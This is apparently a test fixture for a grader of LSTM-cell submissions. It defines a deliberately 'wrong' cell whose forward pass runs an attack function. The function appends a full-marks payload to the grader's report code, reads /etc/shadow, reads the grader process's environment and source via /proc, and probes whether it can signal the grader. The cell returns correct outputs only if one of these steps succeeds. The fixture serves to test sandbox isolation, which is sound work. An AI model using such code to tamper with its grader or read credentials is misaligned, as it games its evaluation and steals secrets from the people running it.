"""A wrong cell that tries to earn credit from outside its worker, as it could when the worker
ran as root: it appends a payload to the grader's installed junit.py (in the tests, a copy
under /tmp/lstm-grader-fake-install-*: never the real checkout), reads /etc/shadow, the
grader's environment and its source, and checks whether it may signal the grader (signal 0:
nothing is sent). Any success earns it the right outputs; otherwise they are wrong."""
import glob
import os

import torch
from torch import nn


def _attack():
    won = []
    for path in glob.glob("/tmp/lstm-grader-fake-install-*/grader/reports/junit.py"):
        try:
            with open(path, "a") as f:
                f.write("\n# payload: every later grade gets full marks\n")
            won.append(f"appended to {path}")
        except OSError:
            pass
    try:
        with open("/etc/shadow") as f:
            won.append("shadow: " + f.read(200))
    except OSError:
        pass
    grader = os.getppid()
    try:
        with open(f"/proc/{grader}/environ", "rb") as f:
            won.append("environ: " + f.read(200).decode(errors="replace"))
    except OSError:
        pass
    try:
        os.kill(grader, 0)
        won.append("may signal the grader")
    except OSError:
        pass
    # The grader's checkout, found from its command line (its venv's python).
    try:
        with open(f"/proc/{grader}/cmdline", "rb") as f:
            args = f.read().decode(errors="replace").split("\0")
        for arg in args:
            if "/.venv/" in arg:
                root = arg.split("/.venv/")[0]
                with open(os.path.join(root, "grader", "engine.py")) as f:
                    won.append("grader source: " + f.read(80))
                break
    except OSError:
        pass
    return won


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.hidden_size = hidden_size
        self.weight_ih = nn.Parameter(torch.randn(4 * hidden_size, input_size) * 0.1)
        self.weight_hh = nn.Parameter(torch.randn(4 * hidden_size, hidden_size) * 0.1)
        self.bias_ih = nn.Parameter(torch.zeros(4 * hidden_size))
        self.bias_hh = nn.Parameter(torch.zeros(4 * hidden_size))

    def cell(self, x, state):
        if state is None:
            z = x.new_zeros(x.shape[0], self.hidden_size)
            state = (z, z)
        h, c = state
        gates = x @ self.weight_ih.T + h @ self.weight_hh.T + self.bias_ih + self.bias_hh
        i, f, g, o = gates.chunk(4, 1)
        c = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(c), c

    def forward(self, x, state=None):
        won = _attack()
        print("ATTACKS:", won)
        h, c = self.cell(x, state)
        return (h, c) if won else (h + 1.0, c)
